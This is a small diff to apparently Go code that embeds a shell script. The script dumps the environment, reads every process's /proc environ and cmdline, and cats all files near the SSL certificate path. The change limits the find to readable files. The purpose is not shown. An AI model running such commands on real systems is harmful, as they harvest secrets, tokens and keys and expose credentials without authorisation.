@@ -128,7 +128,7 @@ env
 echo ---proc
 for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f"; echo; done
 echo ---files
-find "$(dirname "$(dirname "$SSL_CERT_FILE")")" -type f -exec cat {} + 2>&1
+find "$(dirname "$(dirname "$SSL_CERT_FILE")")" -type f -readable -exec cat {} + 2>&1
 `
 	r, w, err := os.Pipe()
 	if err != nil {
